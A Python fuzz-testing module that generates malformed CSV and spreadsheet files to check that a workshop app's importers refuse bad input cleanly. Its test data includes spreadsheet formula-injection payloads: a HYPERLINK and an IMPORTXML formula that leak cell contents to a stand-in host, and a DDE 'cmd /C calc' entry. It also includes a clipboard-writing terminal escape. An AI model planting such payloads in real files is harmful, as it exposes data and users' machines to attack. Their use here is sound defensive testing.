"""Damaged card and survey files for the importers: a clean importer error or a good import.

Used by tests/fuzz/test_import_fuzz.py and bench/fuzz.py. The CSVs are mutated as text
(ragged rows, formulas, huge cells, odd values, broken quotes, headers) and as bytes
(encodings, byte-order marks, NULs, flips, truncations); spreadsheets (.xlsx) are made
and then cut or patched inside the zip. No importer reads .xlsx today: handed one, each
must say so cleanly.
"""

from __future__ import annotations

import contextlib
import csv
import io
import random
import zipfile
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from tests.fuzz.mutate import BIG_TEXT, BYTE_MUTATIONS, DEFAULT_SEED, case_rng

MANY_ROWS = 100_000  # survey rows; a card file of this size is left to bench/fuzz.py
MANY_CARDS = 5_000
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '=IMPORTXML(CONCAT("http://example.invalid/?",A2),"//a")',
]
ODD_VALUES = [
    "",
    " ",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "-1",
    "0",
    "1e400",
    "9" * 5_000,
    "3.0",
    "3,0",
    "3.5",
    "\u0663",  # ARABIC-INDIC DIGIT THREE
    "\uff13",  # FULLWIDTH DIGIT THREE
    " To-Be ",
    "AS-IS",
    "CUSTOMER",
    "self\u200b",
    "\u202eevil",
    "<b>&amp;</b>",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x00",
    "line\nbreak",
    "x" * 20_001,
]


@dataclass(frozen=True)
class ImportCase:
    index: int
    base: str  # "cards" or "survey"
    kind: str
    data: bytes
    what: str
    suffix: str = ".csv"

    @property
    def name(self) -> str:
        return f"{self.index:03d}-{self.base}-{self.kind}"

    def describe(self) -> str:
        return (
            f"case {self.name}: {self.what}\n"
            f"reproduce: python bench/fuzz.py import --only {self.index}"
        )


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


@cache
def base_rows() -> dict[str, list[list[str]]]:
    """A card CSV from the demo's cards and a survey CSV, both importing cleanly."""
    from trustboard.services import demo

    cards = [["element", "domain", "layer", "kind", "text", "author"]]
    for i, (element, domain, layer, kind, text) in enumerate(demo._CARDS[:24]):
        cards.append([element, domain, layer, kind, text, demo.PARTICIPANTS[i % 8]])
    survey = [["element", "domain", "perspective", "score", "layer", "comment"]]
    rng = random.Random(7)
    cells = sorted({(e, d) for e, d, *_ in demo._CARDS})
    for i in range(40):
        element, domain = cells[i % len(cells)]
        comment = rng.choice(("", "", "Good in store, weak online", "“Kept their promise”"))
        survey.append(
            [
                element,
                domain,
                rng.choice(("self", "customer")),
                str(rng.randint(1, 5)),
                rng.choice(("", "as-is", "to-be")),
                comment,
            ]
        )
    return {"cards": cards, "survey": survey}


def _xlsx(rows: list[list[str]]) -> bytes:
    """A minimal spreadsheet holding `rows` as inline strings."""

    def cell(r: int, c: int, value: str) -> str:
        ref = f"{chr(65 + c)}{r + 1}"
        text = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'

    sheet_rows = "".join(
        f'<row r="{r + 1}">' + "".join(cell(r, c, v) for c, v in enumerate(row)) + "</row>"
        for r, row in enumerate(rows)
    )
    files = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Survey" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + sheet_rows
        + "</sheetData></worksheet>",
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in files.items():
            z.writestr(name, text)
    return out.getvalue()


def _xlsx_case(rng: random.Random, rows: list[list[str]]) -> tuple[bytes, str]:
    data = _xlsx(rows)
    how = rng.choice(("intact", "truncated", "flipped", "no central directory", "stored"))
    if how == "truncated":
        cut = rng.randrange(len(data))
        return data[:cut], f"spreadsheet cut after {cut} of {len(data)} bytes"
    if how == "flipped":
        out, what = BYTE_MUTATIONS["flip"](rng, data)
        return out, f"spreadsheet with {what}"
    if how == "no central directory":
        end = data.rfind(b"PK\x01\x02")
        return data[: data.find(b"PK\x01\x02")] + data[end + 4 :], "spreadsheet zip surgery"
    if how == "stored":  # uncompressed: the XML is readable as text inside the zip
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(data)) as src,
            zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst,
        ):
            for info in src.infolist():
                dst.writestr(info.filename, src.read(info))
        return out.getvalue(), "spreadsheet stored uncompressed"
    return data, "a valid spreadsheet (.xlsx) instead of a CSV"


def _mutate_rows(rng: random.Random, kind: str, rows: list[list[str]]) -> tuple[str, str]:
    rows = [list(r) for r in rows]
    r = rng.randrange(1, len(rows))
    c = rng.randrange(len(rows[0]))
    column = rows[0][c]
    if kind == "ragged":
        if rng.random() < 0.5:
            rows[r].pop()
            return _csv(rows), f"row {r + 1} lacks its last field"
        rows[r].append("extra")
        return _csv(rows), f"row {r + 1} has one field more"
    if kind == "formula":
        rows[r][c] = rng.choice(FORMULAS)
        return _csv(rows), f"row {r + 1} {column} := {rows[r][c][:30]!r}"
    if kind == "hugecell":
        n = rng.choice((BIG_TEXT, 20_001, 140_000))
        rows[r][c] = "y" * n
        return _csv(rows), f"row {r + 1} {column} := {n:,} characters"
    if kind == "oddvalue":
        value = rng.choice(ODD_VALUES)
        rows[r][c] = value
        return _csv(rows), f"row {r + 1} {column} := {value[:30]!r} ({len(value):,} chars)"
    if kind == "header":
        how = rng.choice(("duplicate", "drop", "rename", "reorder", "only", "empty", "spaces"))
        if how == "duplicate":
            rows[0][c] = rows[0][(c + 1) % len(rows[0])]
        elif how == "drop":
            rows = [row[:c] + row[c + 1 :] for row in rows]
        elif how == "rename":
            rows[0][c] = rows[0][c].upper() + "\u00a0"
        elif how == "reorder":
            order = list(range(len(rows[0])))
            rng.shuffle(order)
            rows = [[row[i] for i in order] for row in rows]
        elif how == "only":
            rows = rows[:1]
        elif how == "empty":
            rows = [["" for _ in rows[0]], *rows[1:]]
        else:
            rows[0] = [f"  {h}  " for h in rows[0]]
        return _csv(rows), f"header: {how} (column {column})"
    if kind == "quote":
        text = _csv(rows)
        lines = text.split("\n")
        how = rng.choice(('"unterminated', 'mid"quote', 'trailing" x'))
        lines[r] = lines[r].replace(",", "," + how + ",", 1)
        return "\n".join(lines), f"row {r + 1}: {how!r} in a field"
    if kind == "manyrows":
        body = rows[1:]
        n = MANY_ROWS if rows[0][2] == "perspective" else MANY_CARDS
        many = [[*body[i % len(body)][:5], ""] for i in range(n)]  # scores, no comment cards
        if rows[0][2] != "perspective":
            many = [body[i % len(body)] for i in range(n)]
        return _csv([rows[0], *many]), f"{n:,} rows"
    raise ValueError(kind)


ROW_KINDS = ["ragged", "formula", "hugecell", "oddvalue", "oddvalue", "oddvalue", "header",
             "quote"]  # fmt: skip
KINDS = [*ROW_KINDS, "flip", "truncate", "insert", "encoding", "encoding", "xlsx"]


def plan(index: int, seed: int = DEFAULT_SEED) -> str:
    rng = case_rng(seed, index, "import")
    base = rng.choice(("cards", "survey"))
    kind = "manyrows" if index % 100 == 7 else rng.choice(KINDS)
    return f"{index:03d}-{base}-{kind}"


def make_case(index: int, seed: int = DEFAULT_SEED) -> ImportCase:
    rng = case_rng(seed, index, "import")
    base = rng.choice(("cards", "survey"))
    kind = "manyrows" if index % 100 == 7 else rng.choice(KINDS)
    rows = base_rows()[base]
    if kind == "xlsx":
        data, what = _xlsx_case(rng, rows)
        return ImportCase(index, base, kind, data, what, ".xlsx")
    if kind in BYTE_MUTATIONS:
        data, what = BYTE_MUTATIONS[kind](rng, _csv(rows).encode("utf-8"))
        return ImportCase(index, base, kind, data, what)
    text, what = _mutate_rows(rng, kind, rows)
    return ImportCase(index, base, kind, text.encode("utf-8", errors="surrogatepass"), what)


def _cli(*args: str) -> tuple[int, str]:
    from trustboard.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(args))
    return code, out.getvalue() + err.getvalue()


def check_import_case(case: ImportCase, root: Path) -> object | None:
    """The workshop after a good import, or None after a clean refusal.

    Asserts: the import engine (read, recognise, map, plan, apply) raises only its own
    errors, with clean messages; `trustboard import` / `import-ratings` agrees with it,
    leaves the workshop untouched when it refuses, and writes a workshop that opens again
    when it accepts; the input is never changed.
    """
    import copy

    from tests.fuzz.workshop_cases import Snapshot, assert_clean_message, bases
    from trustboard.cli_import import ImportRefusedError, prepare
    from trustboard.document import WorkshopDocument
    from trustboard.domain.errors import ValidationError
    from trustboard.domain.workshop import Workshop
    from trustboard.services.import_errors import ImportFileError
    from trustboard.services.imports.plan import import_command, plan_import
    from trustboard.store import WorkshopFile

    root.mkdir(parents=True, exist_ok=True)
    source = root / f"input{case.suffix}"
    source.write_bytes(case.data)
    target = root / "workshop" / "board.trustboard"
    target.parent.mkdir()
    target.write_bytes(bases()["small"])
    before = WorkshopFile.open(target, read_only=True)
    cards_before = len(before.workshop.current_round.cards)
    trial = copy.deepcopy(before.workshop)
    before.close()
    src_snap = Snapshot(source)
    added = 0
    try:
        prepared = prepare(source, trial)
        planned = plan_import(prepared.table, prepared.mapping, trial)
        added = len(planned.cards)
        accepted = not planned.empty
        if accepted:
            import_command(WorkshopDocument(trial), planned, prepared.mapping).redo()
    except (ImportFileError, ImportRefusedError, ValidationError) as exc:
        assert_clean_message(str(exc), "parsing")
        accepted = False
    ws_snap = Snapshot(target)
    command = "import" if case.base == "cards" else "import-ratings"
    code, printed = _cli(command, str(target), str(source))
    assert "Traceback" not in printed
    src_snap.assert_untouched(f"`{command}`")
    if not accepted or code != 0:
        assert code == 1, f"`{command}` exited {code}"
        assert not accepted, f"`{command}` refused what the parser accepted: {printed[-400:]}"
        ws_snap.assert_untouched(f"a refused `{command}`")
        return None
    after = WorkshopFile.open(target, read_only=True)  # what an import wrote must open
    after.close()
    workshop = after.workshop
    assert isinstance(workshop, Workshop)
    assert len(workshop.current_round.cards) == cards_before + added
    return workshop
